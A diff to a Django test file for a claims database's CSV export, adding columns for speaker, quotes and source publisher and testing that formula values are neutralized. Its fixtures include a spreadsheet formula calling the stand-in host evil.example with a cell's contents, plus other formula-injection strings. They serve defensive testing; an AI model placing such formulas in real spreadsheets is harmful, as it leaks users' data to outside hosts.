@@ -15,10 +15,12 @@ from tests.factories import add_evidence, make_actor, make_claim, make_event, ma
 
 pytestmark = pytest.mark.django_db
 
-HEADER = (
+# The design's stable columns, in order, then the ones appended after them.
+STABLE = (
     "id,url,statement,kind,status,claimant,subjects,event,event_date,tags,disputed,disputed_by,"
     "supporting_sources,source_title,source_url,quote,quote_start,quote_end,created_at,updated_at"
 )
+HEADER = STABLE + ",speaker,supporting_quotes,disputing_quotes,source_publisher,source_published"
 HOSTILE = [
     '=HYPERLINK("http://evil.example/?"&A1,"click")',
     "+1+2",
@@ -74,6 +76,7 @@ def public_csv(client, query=""):
 def test_header_and_column_order_follow_the_design(client, world):
     data = body(client.get("/claims/export.csv"))
     assert data.decode().splitlines()[0] == HEADER
+    assert data.decode().startswith(STABLE + ",")
     assert tuple(HEADER.split(",")) == export.COLUMNS
 
 
@@ -101,6 +104,11 @@ def test_row_holds_the_claim_with_lists_dispute_state_and_first_quote(client, wo
         "quote_end": str(world.supporting.end),
         "created_at": claim.created_at.astimezone(datetime.UTC).strftime("%Y-%m-%dT%H:%M:%SZ"),
         "updated_at": claim.updated_at.astimezone(datetime.UTC).strftime("%Y-%m-%dT%H:%M:%SZ"),
+        "speaker": "Officials",
+        "supporting_quotes": f"{world.supporting.text} | {world.second.text}",
+        "disputing_quotes": world.disputing.text,
+        "source_publisher": "Daily Paper",
+        "source_published": "2024-06-19",
     }
 
 
@@ -264,7 +272,9 @@ def test_export_runs_a_fixed_number_of_queries(client, world, django_assert_max_
 @pytest.mark.postgres_only
 def test_copy_and_python_paths_give_identical_bytes_on_postgresql(world):
     for n, value in enumerate(HOSTILE):
-        source, _ = store_source(f"Text {n}: {value.strip()} end.", title=value)
+        source, _ = store_source(
+            f"Text {n}: {value.strip()} end.", title=value, publisher=value.strip()[:200]
+        )
         actor = make_actor(value, slug=f"hostile-{n}")
         claim = make_claim(value, claimant=actor, event=make_event(value), slug=f"h-{n}")
         claim.subjects.set([actor, world.subject])
@@ -354,3 +364,69 @@ def test_export_plan_settings_end_with_the_export_on_postgresql(world):
     body = b"".join(export.csv_chunks(filter_claims({})[0]))
     assert world.claim.statement.encode() in body
     assert settings() == before
+
+
+def test_speaker_says_the_source_speaks_when_there_is_no_claimant(client, world):
+    own = make_claim("The summit ended early.")
+    add_evidence(own, world.second)  # "Second report", publisher "Evening Post"
+    untitled = make_claim("A report without a publisher.")
+    source, _ = store_source("Plain text.\nNo publisher here.", title="Plain report")
+    add_evidence(untitled, quoted(source, "No publisher here."))
+    bare = make_claim("A claim with no passage yet.")
+    rows = {r["id"]: r for r in public_csv(client)}
+    assert rows[str(world.claim.pk)]["speaker"] == "Officials"
+    assert rows[str(own.pk)]["speaker"] == "Evening Post (the source's own voice)"
+    assert rows[str(own.pk)]["claimant"] == ""  # the stable column is unchanged
+    assert rows[str(untitled.pk)]["speaker"] == "Plain report (the source's own voice)"
+    assert rows[str(untitled.pk)]["source_publisher"] == ""
+    assert rows[str(bare.pk)]["speaker"] == rows[str(bare.pk)]["supporting_quotes"] == ""
+
+
+def test_every_supporting_and_disputing_quote_is_exported_in_evidence_order(client, world):
+    rows = {r["id"]: r for r in public_csv(client)}
+    row = rows[str(world.claim.pk)]
+    assert row["supporting_quotes"].split(export.QUOTE_SEPARATOR) == [
+        world.supporting.text,
+        world.second.text,
+    ]
+    assert row["quote"] == world.supporting.text  # the first one, as before
+    assert row["disputing_quotes"] == world.disputing.text
+
+
+HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+
+
+def test_new_columns_neutralize_formulas_in_the_public_and_the_admin_export(
+    client, django_user_model
+):
+    source, _ = store_source(
+        f"{HYPERLINK}\n{HYPERLINK} again\n-1+1 disputes it", title=HYPERLINK, publisher=HYPERLINK
+    )
+    claim = make_claim("A claim quoting a formula.")
+    add_evidence(claim, quoted(source, HYPERLINK))
+    add_evidence(claim, quoted(source, f"{HYPERLINK} again"))
+    add_evidence(claim, quoted(source, "-1+1 disputes it"), stance=Evidence.Stance.DISPUTES)
+    (public,) = public_csv(client)
+    client.force_login(django_user_model.objects.create_superuser("boss", "b@example.com", "x"))
+    action = {"action": "export_csv", "_selected_action": [claim.pk]}
+    (admin_row,) = read(body(client.post("/admin/claims/claim/", action)))
+    for row in (public, admin_row):
+        assert row["speaker"] == f"'{HYPERLINK} (the source's own voice)"
+        assert row["source_publisher"] == f"'{HYPERLINK}"
+        assert row["supporting_quotes"] == f"'{HYPERLINK} | {HYPERLINK} again"
+        assert row["disputing_quotes"] == "'-1+1 disputes it"
+
+
+def test_admin_export_links_claims_readers_cannot_see_to_their_admin_page(
+    client, world, django_user_model
+):
+    client.force_login(django_user_model.objects.create_superuser("boss", "b@example.com", "x"))
+    withdrawn = make_claim("A withdrawn claim.", status=Claim.Status.WITHDRAWN)
+    chosen = [world.claim, world.draft, withdrawn]
+    action = {"action": "export_csv", "_selected_action": [c.pk for c in chosen]}
+    rows = {r["id"]: r for r in read(body(client.post("/admin/claims/claim/", action)))}
+    assert rows[str(world.claim.pk)]["url"] == f"http://testserver/claims/{world.claim.slug}/"
+    for claim in (world.draft, withdrawn):
+        url = rows[str(claim.pk)]["url"]
+        assert url == f"http://testserver/admin/claims/claim/{claim.pk}/change/"
+        assert client.get(url.removeprefix("http://testserver")).status_code == 200
